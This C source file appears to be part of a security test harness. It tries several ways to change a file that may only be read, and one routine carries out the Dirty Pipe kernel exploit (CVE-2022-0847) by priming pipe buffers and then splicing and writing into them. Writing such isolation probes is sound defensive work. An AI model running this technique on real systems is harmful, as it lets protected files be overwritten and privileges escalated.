// Ways to change a file that one may only read: the pages of it that all its readers share (Dirty
// Pipe, CVE-2022-0847, among them). The file is /shared, or what SHARED names.
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#include "attempt.h"

static const char* shared_file(void) {
  const char* given = getenv("SHARED");
  return given != NULL ? given : "/shared";
}

static const char kText[] = "changed";

static long write_it(void) {
  const int file = open(shared_file(), O_WRONLY);
  return file < 0 ? -1 : write(file, kText, sizeof kText - 1);
}

static long read_only(void) { return open(shared_file(), O_RDONLY); }

static long map_writable(void) {
  void* page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, (int)read_only(), 0);
  if (page == MAP_FAILED) return -1;
  memcpy(page, kText, sizeof kText - 1);
  return 0;
}

static long map_and_protect(void) {
  void* page = mmap(NULL, 4096, PROT_READ, MAP_SHARED, (int)read_only(), 0);
  if (page == MAP_FAILED || mprotect(page, 4096, PROT_READ | PROT_WRITE) != 0) return -1;
  memcpy(page, kText, sizeof kText - 1);
  return 0;
}

// A pipe whose buffers were all in use, then one byte of the file's page in it, then a write: a
// kernel that forgot to clear a buffer's flags would put it into the page.
static long splice_and_write(void) {
  int ends[2];
  static char bytes[4096];
  if (pipe(ends) != 0) return -1;
  const int size = fcntl(ends[1], F_GETPIPE_SZ);
  for (int i = 0; i < size; i += 4096) write(ends[1], bytes, sizeof bytes);
  for (int i = 0; i < size; i += 4096) read(ends[0], bytes, sizeof bytes);
  if (syscall(SYS_splice, (int)read_only(), NULL, ends[1], NULL, 1, 0) != 1) return -1;
  return write(ends[1], kText, sizeof kText - 1);
}

static long copy_over(void) {
  const int file = (int)read_only();
  loff_t from = 1;
  loff_t to = 0;
  return syscall(SYS_copy_file_range, file, &from, file, &to, 1, 0);
}

static const struct attempt kAttempts[] = {
    {"map_writable", map_writable},
    {"map_and_protect", map_and_protect},
    {"splice_and_write", splice_and_write},
    {"copy_over", copy_over},
    {"write_it", write_it},
};

ATTEMPTS_MAIN(kAttempts)
